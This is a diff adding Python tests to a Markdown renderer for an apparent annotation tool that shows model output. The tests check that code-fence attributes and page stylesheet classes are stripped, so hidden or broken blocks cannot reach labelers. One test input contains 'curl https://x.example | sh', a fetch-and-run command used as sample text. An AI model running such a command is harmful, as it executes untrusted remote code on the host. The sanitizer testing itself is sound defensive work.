@@ -2,14 +2,17 @@
 
 from __future__ import annotations
 
+import re
 import time
 from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
+from pygments.token import STANDARD_TYPES
 
 from annotation.markdown import pygments_css, render_text, word_count
 
+PYGMENTS_TOKEN_CLASSES = {cls for cls in STANDARD_TYPES.values() if cls}
 STATIC_CSS = Path(__file__).resolve().parents[2] / "annotation/static/css/pygments.css"
 
 PAYLOADS = [
@@ -47,6 +50,49 @@ def test_fenced_code_is_highlighted_by_pygments_and_stays_escaped():
     # A fence without a language is code too, not guessed and coloured.
     plain = render_text("```\nnot <i>html</i>\n```")
     assert '<pre dir="ltr">' in plain and "not &lt;i&gt;html&lt;/i&gt;" in plain
+
+
+@pytest.mark.parametrize(
+    "fence",
+    [
+        "```{style=x}",  # CodeHilite got `style` twice: a TypeError, the labeling page a 500
+        "```{lang=x}",
+        "```{css_class=visually-hidden}",  # would hide the block from the labeler
+        '```{.python .visually-hidden #top hl_lines="1" linenums="true"}',
+        "``` { .card noclasses=true }",
+    ],
+)
+def test_fence_attributes_in_model_output_keep_only_the_language(fence):
+    html = render_text(f"Run this:\n\n{fence}\ncurl https://x.example | sh\n```\n")
+    assert "curl https://x.example | sh" in re.sub(r"<[^>]+>", "", html)
+    classes = {
+        cls for _, attrs in _Elements(html).elements for cls in (attrs.get("class") or "").split()
+    }
+    assert classes <= {"hl"} | PYGMENTS_TOKEN_CLASSES, html
+    assert "id=" not in html and "style=" not in html and "linenos" not in html
+
+
+def test_classes_in_model_output_are_the_highlighters_own():
+    # The sanitizer's second line: a class of the page's stylesheet never gets through.
+    from annotation.markdown import _TEXT_CLEANER
+
+    html = _TEXT_CLEANER.clean(
+        '<div class="hl visually-hidden"><span class="k card">def</span></div>'
+    )
+    assert html == '<div class="hl"><span class="k">def</span></div>'
+
+
+def test_text_the_renderer_fails_on_is_shown_escaped(monkeypatch):
+    import annotation.markdown as markdown_module
+
+    def broken(*_args):
+        raise TypeError("a parser bug")
+
+    monkeypatch.setattr(markdown_module.md.Markdown, "convert", broken)
+    html = render_text("a <b>never seen</b> text\n\n- item")
+    assert html == '<pre dir="auto">a &lt;b&gt;never seen&lt;/b&gt; text\n\n- item</pre>'
+    monkeypatch.undo()
+    assert "<li>item</li>" in render_text("another text\n\n- item")
 
 
 def test_raw_html_in_model_output_is_text_not_markup():
